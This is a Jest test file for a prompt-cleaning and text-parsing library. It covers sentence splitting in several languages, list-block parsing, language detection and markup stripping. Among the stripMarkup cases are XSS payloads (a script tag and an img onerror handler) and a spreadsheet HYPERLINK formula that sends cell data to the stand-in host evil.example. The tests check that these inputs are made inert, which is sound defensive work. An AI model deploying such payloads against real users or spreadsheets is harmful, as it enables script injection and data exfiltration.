import { describe, expect, it } from '@jest/globals';
import { blocksOf } from './blocks.js';
import { cleanPrompt, MAX_PROMPT_LENGTH } from './clean-prompt.js';
import { detectLanguage } from './detect-language.js';
import { splitSentences } from './sentences.js';
import { splitOutsideBrackets } from './split-outside-brackets.js';
import { stripMarkup } from './strip-markup.js';
import { lowerFirst, trimPunctuation } from './words.js';

describe('cleanPrompt', () => {
  it('takes out what no reader sees and keeps how deep a list item stands', () => {
    expect(cleanPrompt('  a\u0000b\u202e  c\r\n\t- d \n\n\n\ne ')).toBe('ab c\n  - d \n\ne');
  });

  it('reads no more than the form accepts', () => {
    expect(cleanPrompt('a'.repeat(MAX_PROMPT_LENGTH + 1))).toHaveLength(MAX_PROMPT_LENGTH);
  });
});

describe('stripMarkup', () => {
  it.each([
    ['<script>alert(1)</script> Check <b>it</b>', '  Check  it '],
    ['<img src=x onerror=alert(1)> wipe', '  wipe'],
    ['<script wipe', ' '],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Go") wipe', ' wipe'],
    ['wipe =SUM(A1)', 'wipe SUM(A1)'],
    ['gloves + goggles!! =Sheet1!A1 and +Sheet2!$B$12', 'gloves + goggles!! Sheet1!A1 and Sheet2!$B$12'],
    ['temp <5 and >2, P&L > 10%', 'temp <5 and >2, P&L > 10%'],
    ['ask <client name>', 'ask [client name]'],
    ['-5 °C and +44 20', '-5 °C and +44 20'],
  ])('makes %j inert', (text, inert) => {
    expect(stripMarkup(text)).toBe(inert);
  });
});

describe('splitSentences', () => {
  it.each([
    ['Dr. Osei decides. Keep it.', ['Dr. Osei decides.', 'Keep it.']],
    ['take it. then go', ['take it.', 'then go']],
    ['max. 7 °C at 5.30 pm', ['max. 7 °C at 5.30 pm']],
    ['检查。记录。', ['检查。', '记录。']],
    ['Wipe the tops. 8 ml of cleaner go in.', ['Wipe the tops.', '8 ml of cleaner go in.']],
    ['Take the key for room no. 8 now.', ['Take the key for room no. 8 now.']],
    ['Add one gal. 2 at a time.', ['Add one gal. 2 at a time.']],
    ['Stir the grbl. 2 spoons at a time.', ['Stir the grbl. 2 spoons at a time.']],
    ['Mix approx. 8 ml of oil.', ['Mix approx. 8 ml of oil.']],
    ['Ask the prev. 3 owners first.', ['Ask the prev. 3 owners first.']],
    ['Deliver on Sept. 4 please.', ['Deliver on Sept. 4 please.']],
    ['Ask the prof. 4 days before.', ['Ask the prof. 4 days before.']],
    ['Read info. 2 on the board.', ['Read info. 2 on the board.']],
  ])('splits %j', (text, sentences) => {
    expect(splitSentences(text, 'en')).toEqual(sentences);
  });

  it.each<[string, string, string[]]>([
    [
      'sv',
      'Papper beställs samma dag. Vid över 50 ex. görs ett prov. Kunden betalar.',
      ['Papper beställs samma dag.', 'Vid över 50 ex. görs ett prov.', 'Kunden betalar.'],
    ],
    [
      'pl',
      'Zbierz kartki. Weź 5 szt. z szafy. Zamknij drzwi.',
      ['Zbierz kartki.', 'Weź 5 szt. z szafy.', 'Zamknij drzwi.'],
    ],
    [
      'nl',
      'Tel de dozen. Zet max. 4 st. op een kar. Sluit de deur.',
      ['Tel de dozen.', 'Zet max. 4 st. op een kar.', 'Sluit de deur.'],
    ],
    ['nl', 'tel de dozen. sluit de deur.', ['tel de dozen.', 'sluit de deur.']],
  ])('%s: knows a word that is cut short by the small letter behind it: %s', (lang, text, sentences) => {
    expect(splitSentences(text, lang)).toEqual(sentences);
  });

  it('cuts what has no end, and no character in two', () => {
    const pieces = splitSentences('👍'.repeat(1_000), 'en');
    expect(pieces.join('')).toBe('👍'.repeat(1_000));
    expect(Math.max(...pieces.map((piece) => piece.length))).toBeLessThanOrEqual(600);
  });
});

describe('splitOutsideBrackets', () => {
  it('leaves what stands in brackets and quotes together', () => {
    expect(splitOutsideBrackets('a (b, c), “d, e”, f', /,\s+/uy)).toEqual(['a (b, c)', '“d, e”', 'f']);
    expect(splitOutsideBrackets('a ((b), c), d', /,\s+/uy)).toEqual(['a ((b), c)', 'd']);
  });
});

describe('blocksOf', () => {
  it('finds headings, sections, items and their depth', () => {
    const text = '# Backup\nMaterials: tape\n## Steps\n1. Log in\n   - as admin\n\nDone.\n---';
    expect(blocksOf(text)).toEqual([
      { kind: 'heading', text: 'Backup', section: null, indent: 0 },
      { kind: 'text', text: 'tape', section: 'resources', indent: 0, isApart: true },
      { kind: 'item', text: 'Log in', section: 'phases', indent: 0 },
      { kind: 'item', text: 'as admin', section: 'phases', indent: 3 },
      { kind: 'text', text: 'Done.', section: null, indent: 0, isApart: true },
    ]);
  });

  it('reads numbers within a line as a list', () => {
    expect(blocksOf('1) wash 2) rinse').map((block) => [block.kind, block.text])).toEqual([
      ['item', 'wash'],
      ['item', 'rinse'],
    ]);
  });
});

describe('detectLanguage', () => {
  it.each([
    ['Opening checklist for our bakery', 'en', true],
    ['refunds', 'en', true],
    ['Bitte den Ofen prüfen und notieren', 'de', true],
    ['登记投诉编号', 'zh', true],
    ['👍 123', 'en', false],
    ['qwxz', 'en', false],
  ])('finds the language of %j', (text, lang, isUnderstood) => {
    expect(detectLanguage(text)).toEqual({ lang, isUnderstood });
  });
});

describe('words', () => {
  it.each([
    ['Close it', 'close it'],
    ['ID verified', 'ID verified'],
    ['Monday', 'Monday'],
    ['Ben posts', 'Ben posts'],
    ['A child', 'a child'],
  ])('lowers %j to %j', (text, lowered) => {
    expect(lowerFirst(text, new Set(['Ben']))).toBe(lowered);
  });

  it.each([
    [' - lock up.', 'lock up'],
    ['-5 °C', '-5 °C'],
    ['done (twice);', 'done (twice)'],
  ])('trims %j to %j', (text, trimmed) => {
    expect(trimPunctuation(text)).toBe(trimmed);
  });
});
